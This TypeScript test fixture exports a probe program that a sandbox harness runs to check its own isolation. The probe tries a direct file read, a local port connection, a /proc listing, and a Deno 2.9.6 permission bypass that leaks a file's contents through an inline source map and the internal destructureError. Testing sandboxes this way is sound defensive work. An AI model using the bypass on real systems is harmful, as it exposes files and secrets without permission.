/**
 * The program with which probe.ts attacks its own sandbox. Runs in Deno with every permission.
 *
 * `destructureError`: a module whose inline source map names a file makes Deno read that file when
 * the module throws, without a permission check (Deno 2.9.6).
 */
export const ATTACK = `
const { secret, port } = JSON.parse(await new Response(Deno.stdin.readable).text());
const tries = {
  "read a file of the server": () => Deno.readTextFileSync(secret),
  "read a file of the server through an error": async () => {
    const map = btoa(JSON.stringify({ version: 3, sources: ["file://" + secret], names: [], mappings: "AAAA" }));
    const code = "throw new Error('x')\\n//# sourceMappingURL=data:application/json;base64," + map;
    try { await import("data:text/javascript;base64," + btoa(code)); }
    catch (error) { return Deno[Deno.internal].core.destructureError(error).sourceLine ?? ""; }
  },
  "reach a port of this machine": async () => {
    const socket = await Deno.connect({ hostname: "127.0.0.1", port });
    socket.close();
    return "connected";
  },
  "see other processes": () => {
    // The sandbox itself has two: bubblewrap's and this one.
    const pids = [...Deno.readDirSync("/proc")].filter(({ name }) => /^\\d+$/.test(name));
    return pids.length > 2 ? "seen" : "";
  },
};
const results = {};
for (const [name, attempt] of Object.entries(tries)) {
  try { results[name] = String(await attempt()).trim(); } catch { results[name] = ""; }
}
console.log(JSON.stringify(results));
`;
